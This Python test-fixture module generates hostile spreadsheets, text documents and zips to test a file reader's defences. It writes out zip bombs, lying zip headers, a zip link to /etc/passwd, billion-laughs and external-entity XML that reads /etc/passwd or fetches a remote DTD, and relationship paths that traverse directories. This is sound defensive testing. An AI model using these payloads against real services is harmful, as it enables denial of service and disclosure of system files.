"""Hostile spreadsheets and text documents: zips of XML in which nearly everything can lie."""

import io
import struct
import zipfile
from collections.abc import Callable, Iterator

from tests.channels import parcels
from tests.channels.hostile import LAUGHS, MAIN, RELATIONS, SHEET, WORKBOOK, workbook
from tests.channels.parcels import CSV, zipped

Hostile = tuple[str, str, Callable[[], bytes]]
"""What it is called here, the file's own name, and its bytes."""

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"

DOCUMENT = {
    "[Content_Types].xml": (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'wordprocessingml.document.main+xml"/></Types>'
    ),
    "_rels/.rels": (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{RELATIONS}/officeDocument" Target="word/document.xml"/></Relationships>'
    ),
}


def document(body: str, before: str = "", **more: str | bytes) -> bytes:
    xml = f'{before}<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'
    return _zip({**DOCUMENT, "word/document.xml": xml, **more})


def ods(rows: str, before: str = "", **more: str | bytes) -> bytes:
    content = (
        f'{before}<office:document-content xmlns:office="{OFFICE}" xmlns:table="{TABLE}" xmlns:text="{TEXT}">'
        f'<office:body><office:spreadsheet><table:table table:name="Elenco">{rows}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    return _zip({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": content, **more})


def _zip(files: dict[str, str | bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return file.getvalue()


def _blanks(part: str, megabytes: int, files: dict[str, str], start: str, end: str) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            if name != part:
                archive.writestr(name, content)
        with archive.open(part, "w") as packed:
            packed.write(start.encode())
            for _megabyte in range(megabytes):
                packed.write(b" " * 1024 * 1024)
            packed.write(end.encode())
    return file.getvalue()


def bombs() -> Iterator[Hostile]:
    """Kilobytes that unpack to megabytes, in each of the parts that a reader opens first."""
    sheets = {**WORKBOOK, "xl/worksheets/sheet1.xml": f"{SHEET}<sheetData/></worksheet>"}
    parts = (
        "xl/worksheets/sheet1.xml",
        "xl/sharedStrings.xml",
        "xl/styles.xml",
        "xl/workbook.xml",
        "[Content_Types].xml",
        "xl/_rels/workbook.xml.rels",
        "docProps/core.xml",
        "xl/comments1.xml",
    )
    for part in parts:
        for megabytes in (20, 90, 190):
            yield (
                f"xlsx, {megabytes} MB in {part}",
                "elenco.xlsx",
                lambda part=part, megabytes=megabytes: _blanks(part, megabytes, sheets, "<a>", "</a>"),
            )
    for part in ("word/document.xml", "word/styles.xml", "word/comments.xml"):
        for megabytes in (20, 190):
            yield (
                f"docx, {megabytes} MB in {part}",
                "elenco.docx",
                lambda part=part, megabytes=megabytes: _blanks(
                    part, megabytes, {**DOCUMENT, "word/document.xml": "<a/>"}, "<a>", "</a>"
                ),
            )
    for part in ("content.xml", "styles.xml", "mimetype"):
        files = {"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<a/>"}
        for megabytes in (20, 190):
            yield (
                f"ods, {megabytes} MB in {part}",
                "elenco.ods",
                lambda part=part, megabytes=megabytes, files=files: _blanks(part, megabytes, files, "<a>", "</a>"),
            )


def lying_zips() -> Iterator[Hostile]:
    """Zips whose directory says other things than are there."""
    whole = workbook(f"{SHEET}<sheetData/></worksheet>")
    for method, name in ((zipfile.ZIP_BZIP2, "bzip2"), (zipfile.ZIP_LZMA, "lzma")):
        yield (
            f"zip packed by {name}, 60 MB",
            "elenco.zip",
            lambda method=method: _zip({"elenco.csv": b" " * 60_000_000}, method),
        )
        yield (
            f"xlsx packed by {name}, 60 MB",
            "elenco.xlsx",
            lambda method=method: _zip({**WORKBOOK, "xl/worksheets/sheet1.xml": b" " * 60_000_000}, method),
        )
    for size in (0, 10, 2**31, 2**32 - 1):
        yield f"zip that says {size} bytes", "elenco.xlsx", lambda size=size: _declaring(whole, size)
    for place in range(0, len(whole), len(whole) // 24):
        yield f"xlsx cut at {place}", "elenco.xlsx", lambda place=place: whole[:place] or b"PK"
    deep = zipped({"elenco.csv": CSV})
    for levels in (2, 4, 30):
        yield f"zip in zip, {levels} deep", "elenco.zip", lambda levels=levels: _nested(deep, levels)
    many = zipped({f"{number}.csv": CSV for number in range(199)})
    yield "zips of zips of lists", "a.zip", lambda: zipped({f"{number}.zip": many for number in range(199)})
    yield "199 lists in a zip", "a.zip", lambda: many
    yield "a link in a zip", "a.zip", lambda: parcels.zipped_link("elenco.csv", "/etc/passwd")
    yield "an encrypted zip", "a.zip", lambda: zipped({"elenco.csv": CSV}, flags=1)
    yield "10,000 names in a zip", "a.zip", lambda: zipped({str(number): b"" for number in range(10_000)})
    yield "a name of 60,000 letters in a zip", "a.zip", lambda: zipped({"x" * 60_000: CSV})
    yield (
        "a zip of hostile workbooks",
        "a.zip",
        lambda: zipped({f"{n}.xlsx": _laughing("xl/styles.xml") for n in range(50)}),
    )
    yield "a zip with a comment of zips", "a.zip", lambda: zipped({"elenco.csv": CSV}) + whole * 3


def _declaring(raw: bytes, size: int) -> bytes:
    bent = bytearray(raw)
    at = raw.find(b"PK\x01\x02")
    while at >= 0:
        bent[at + 24 : at + 28] = struct.pack("<L", size)
        at = raw.find(b"PK\x01\x02", at + 4)
    return bytes(bent)


def _nested(raw: bytes, levels: int) -> bytes:
    for _level in range(levels):
        raw = zipped({"elenco.zip": raw})
    return raw


_QUADRATIC = '<!DOCTYPE x [<!ENTITY a "' + "ha" * 50_000 + '">]>'
_EXTERNAL = '<!DOCTYPE x [<!ENTITY j SYSTEM "file:///etc/passwd">]>'
_PARAMETER = '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/x.dtd"> %a;]>'
_DOCTYPES = {"laughs": LAUGHS, "quadratic": _QUADRATIC, "external": _EXTERNAL, "parameter": _PARAMETER}


def _laughing(part: str, doctype: str = LAUGHS, entity: str = "j") -> bytes:
    files: dict[str, str | bytes] = {**WORKBOOK, "xl/worksheets/sheet1.xml": f"{SHEET}<sheetData/></worksheet>"}
    files[part] = f"{doctype}<a xmlns='{MAIN}'>{f'&{entity};' * 200}</a>"
    return _zip(files)


def entities() -> Iterator[Hostile]:
    """XML that would grow, or fetch."""
    for name, doctype in _DOCTYPES.items():
        entity = "a" if name == "quadratic" else "j"
        for part in ("xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml", "xl/styles.xml"):
            yield (
                f"xlsx, {name} in {part}",
                "elenco.xlsx",
                lambda part=part, doctype=doctype, entity=entity: _laughing(part, doctype, entity),
            )
        text = f"<w:p><w:r><w:t>&{entity};</w:t></w:r></w:p>" * 50
        yield f"docx, {name}", "elenco.docx", lambda text=text, doctype=doctype: document(text, doctype)
        cell = f"<table:table-row><table:table-cell><text:p>&{entity};</text:p></table:table-cell></table:table-row>"
        yield f"ods, {name}", "elenco.ods", lambda cell=cell, doctype=doctype: ods(cell * 50, doctype)


def _cell(place: str, text: str = "ROSSI", kind: str = "inlineStr") -> str:
    inside = f"<is><t>{text}</t></is>" if kind == "inlineStr" else f"<v>{text}</v>"
    return f'<c r="{place}" t="{kind}">{inside}</c>'


def _sheet(rows: str, after: str = "") -> bytes:
    head = "".join(
        _cell(f"{column}1", name) for column, name in zip("ABCD", ("COGNOME", "NOME", "INDIRIZZO", "DATA"), strict=True)
    )
    return workbook(f'{SHEET}<sheetData><row r="1">{head}</row>{rows}</sheetData>{after}</worksheet>')


def sheets() -> Iterator[Hostile]:
    """Workbooks that say impossible things of their cells."""
    for place in (
        "XFD1048576",
        "A1048576",
        "XFD2",
        "ZZZ99999999",
        "A0",
        "2",
        "",
        "A-1",
        "A99999999999999999999",
        "a2",
        "$A$2",
    ):
        yield (
            f"xlsx, a cell at {place!r}",
            "elenco.xlsx",
            lambda place=place: _sheet(f'<row r="2">{_cell(place)}</row>'),
        )
    for row in ("0", "-5", "1048577", "99999999999999", "x", "1.5"):
        yield f"xlsx, a row {row!r}", "elenco.xlsx", lambda row=row: _sheet(f'<row r="{row}">{_cell("A2")}</row>')
    for kind, value in (
        ("s", "0"),
        ("s", "-1"),
        ("s", "99999999999"),
        ("s", "x"),
        ("n", "1e999"),
        ("n", "9" * 5000),
        ("d", "x"),
        ("b", "7"),
        ("n", "nan"),
        ("n", "-1e300"),
        ("d", "9999-99-99"),
        ("zzz", "1"),
    ):
        yield (
            f"xlsx, {kind} of {value[:12]}",
            "elenco.xlsx",
            lambda kind=kind, value=value: _sheet(
                f'<row r="2">{_cell("A2", value, kind)}{_cell("D2", value, kind)}</row>'
            ),
        )
    for area in ("A1:XFD1048576", "A1:A1048576", "B2:A1", "x", "A1:A", "A2:XFD2"):
        for count in (1, 5_000):
            yield (
                f"xlsx, {count} merged {area}",
                "elenco.xlsx",
                lambda area=area, count=count: _sheet(
                    f'<row r="2">{_cell("A2")}</row>',
                    "<mergeCells>" + f'<mergeCell ref="{area}"/>' * count + "</mergeCells>",
                ),
            )
    yield (
        "xlsx, 300,000 rows",
        "elenco.xlsx",
        lambda: _sheet("".join(f'<row r="{row}"><c r="A{row}"><v>1</v></c></row>' for row in range(2, 300_000))),
    )
    yield "xlsx, 1,000,000 empty rows", "elenco.xlsx", lambda: _sheet("<row/>" * 1_000_000)
    yield "xlsx, 16,000 columns", "elenco.xlsx", lambda: _sheet("<row r='2'>" + "<c><v>1</v></c>" * 16_000 + "</row>")
    yield (
        "xlsx, 200 rows of 5,000 columns",
        "elenco.xlsx",
        lambda: _sheet(("<row>" + "<c><v>1</v></c>" * 5_000 + "</row>") * 200),
    )
    yield (
        "xlsx, 10 MB in a cell",
        "elenco.xlsx",
        lambda: _sheet(f'<row r="2">{_cell("A2", "VIA ROMA 1 " * 1_000_000)}</row>'),
    )
    yield (
        "xlsx, 100 KB in each of 60 cells",
        "elenco.xlsx",
        lambda: _sheet("".join(f'<row r="{n}">{_cell(f"A{n}", "SI ESEGUE - A " * 7_000)}</row>' for n in range(2, 62))),
    )
    yield "xlsx, 100,000 elements deep", "elenco.xlsx", lambda: _sheet("<a>" * 100_000 + "</a>" * 100_000)
    yield (
        "xlsx, 100,000 attributes",
        "elenco.xlsx",
        lambda: _sheet("<row " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>"),
    )
    yield (
        "xlsx, a relation to itself",
        "elenco.xlsx",
        lambda: _zip(
            {
                **WORKBOOK,
                "xl/_rels/workbook.xml.rels": WORKBOOK["xl/_rels/workbook.xml.rels"].replace(
                    "worksheets/sheet1", "workbook"
                ),
            }
        ),
    )
    for target in ("../../../../etc/passwd", "file:///etc/passwd", "http://192.0.2.1/x.xml", "", "/xl/workbook.xml"):
        yield (
            f"xlsx, a relation to {target!r}",
            "elenco.xlsx",
            lambda target=target: _zip(
                {
                    **WORKBOOK,
                    "xl/_rels/workbook.xml.rels": WORKBOOK["xl/_rels/workbook.xml.rels"].replace(
                        "worksheets/sheet1.xml", target
                    ),
                }
            ),
        )
    yield "xlsx, 180 sheets", "elenco.xlsx", _many_sheets
    strings = f'<sst xmlns="{MAIN}">' + "<si><t>ROSSI</t></si>" * 400_000 + "</sst>"
    yield (
        "xlsx, 400,000 shared strings",
        "elenco.xlsx",
        lambda: workbook(f"{SHEET}<sheetData/></worksheet>", **{"xl/sharedStrings.xml": strings}),
    )
    styles = f'<styleSheet xmlns="{MAIN}"><cellXfs>' + '<xf numFmtId="14"/>' * 200_000 + "</cellXfs></styleSheet>"
    yield (
        "xlsx, 200,000 styles",
        "elenco.xlsx",
        lambda: workbook(f"{SHEET}<sheetData/></worksheet>", **{"xl/styles.xml": styles}),
    )
    for part in WORKBOOK:
        yield (
            f"xlsx without {part}",
            "elenco.xlsx",
            lambda part=part: _zip({name: content for name, content in WORKBOOK.items() if name != part}),
        )
        yield (
            f"xlsx, {part} in another alphabet",
            "elenco.xlsx",
            lambda part=part: _zip(
                {**WORKBOOK, part: ("\ufeff" + WORKBOOK[part]).encode("utf-16-le"), "xl/worksheets/sheet1.xml": SHEET}
            ),
        )


def _many_sheets() -> bytes:
    names = range(1, 181)
    listed = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId{n}"/>' for n in names)
    related = "".join(
        f'<Relationship Id="rId{n}" Type="{RELATIONS}/worksheet" Target="worksheets/sheet{n}.xml"/>' for n in names
    )
    rows = "".join(f'<row r="{row}">{_cell(f"A{row}")}</row>' for row in range(1, 300))
    files: dict[str, str | bytes] = {
        **WORKBOOK,
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{RELATIONS}"><sheets>{listed}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{RELATIONS}">{related}</Relationships>'.replace(
            "officeDocument/2006/relationships", "package/2006/relationships", 1
        ),
    }
    return _zip(
        files | {f"xl/worksheets/sheet{n}.xml": f"{SHEET}<sheetData>{rows}</sheetData></worksheet>" for n in names}
    )


_W_CELL = "<w:tc><w:p><w:r><w:t>ROSSI</w:t></w:r></w:p></w:tc>"


def documents() -> Iterator[Hostile]:
    """Text documents and ODS sheets that repeat, nest and span without measure."""
    for levels in (50, 2_000, 50_000):
        yield (
            f"docx, tables {levels} deep",
            "elenco.docx",
            lambda levels=levels: document("<w:tbl><w:tr><w:tc>" * levels + "</w:tc></w:tr></w:tbl>" * levels),
        )
        yield (
            f"docx, {levels} elements deep",
            "elenco.docx",
            lambda levels=levels: document("<w:p><w:r>" * levels + "</w:r></w:p>" * levels),
        )
    for span in ("1000000000", "-1", "x", "63"):
        wide = f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="{span}"/></w:tcPr><w:p/></w:tc>{_W_CELL}</w:tr></w:tbl>'
        yield f"docx, a cell over {span} columns", "elenco.docx", lambda wide=wide: document(wide)
    yield (
        "docx, 20,000 rows",
        "elenco.docx",
        lambda: document(f"<w:tbl>{f'<w:tr>{_W_CELL * 4}</w:tr>' * 20_000}</w:tbl>"),
    )
    yield (
        "docx, a row of 20,000 cells",
        "elenco.docx",
        lambda: document(f"<w:tbl><w:tr>{_W_CELL * 20_000}</w:tr></w:tbl>"),
    )
    yield "docx, 5,000 tables", "elenco.docx", lambda: document(f"<w:tbl><w:tr>{_W_CELL}</w:tr></w:tbl>" * 5_000)
    yield (
        "docx, 100,000 paragraphs",
        "elenco.docx",
        lambda: document("<w:p><w:r><w:t>A VIA 1</w:t></w:r></w:p>" * 100_000),
    )
    yield (
        "docx, 10 MB in a paragraph",
        "elenco.docx",
        lambda: document(f"<w:p><w:r><w:t>{'ROSSI VIA ROMA 1 ' * 600_000}</w:t></w:r></w:p>"),
    )
    yield "docx without a body", "elenco.docx", lambda: _zip({**DOCUMENT, "word/document.xml": "<a/>"})
    yield "docx without relations", "elenco.docx", lambda: _zip({"word/document.xml": "<a/>"})
    for cells, rows in (
        ("16384", "1048576"),
        ("1000000000", "1"),
        ("1", "1000000000"),
        ("-1", "-1"),
        ("x", "x"),
        ("16384", "500"),
    ):
        repeated = (
            f'<table:table-row table:number-rows-repeated="{rows}"><table:table-cell '
            f'table:number-columns-repeated="{cells}"><text:p>ROSSI</text:p></table:table-cell></table:table-row>'
        )
        yield f"ods, {cells} x {rows} repeated", "elenco.ods", lambda repeated=repeated: ods(repeated)
        spanned = (
            f'<table:table-row><table:table-cell table:number-columns-spanned="{cells}" '
            f'table:number-rows-spanned="{rows}"><text:p>ROSSI</text:p></table:table-cell></table:table-row>'
        )
        yield f"ods, {cells} x {rows} spanned", "elenco.ods", lambda spanned=spanned: ods(spanned * 20)
    yield (
        "ods, spaces by the billion",
        "elenco.ods",
        lambda: ods(
            '<table:table-row><table:table-cell><text:p>A<text:s text:c="1000000000"/>B</text:p>'
            "</table:table-cell></table:table-row>"
        ),
    )
    yield "ods, 100,000 elements deep", "elenco.ods", lambda: ods("<table:table-row>" * 100_000)
    yield (
        "ods, 150,000 rows",
        "elenco.ods",
        lambda: ods(
            "<table:table-row><table:table-cell><text:p>A</text:p></table:table-cell></table:table-row>" * 150_000
        ),
    )
    yield (
        "ods without content",
        "elenco.ods",
        lambda: _zip({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}),
    )


def everything() -> Iterator[Hostile]:
    for family in (bombs, lying_zips, entities, sheets, documents):
        yield from family()
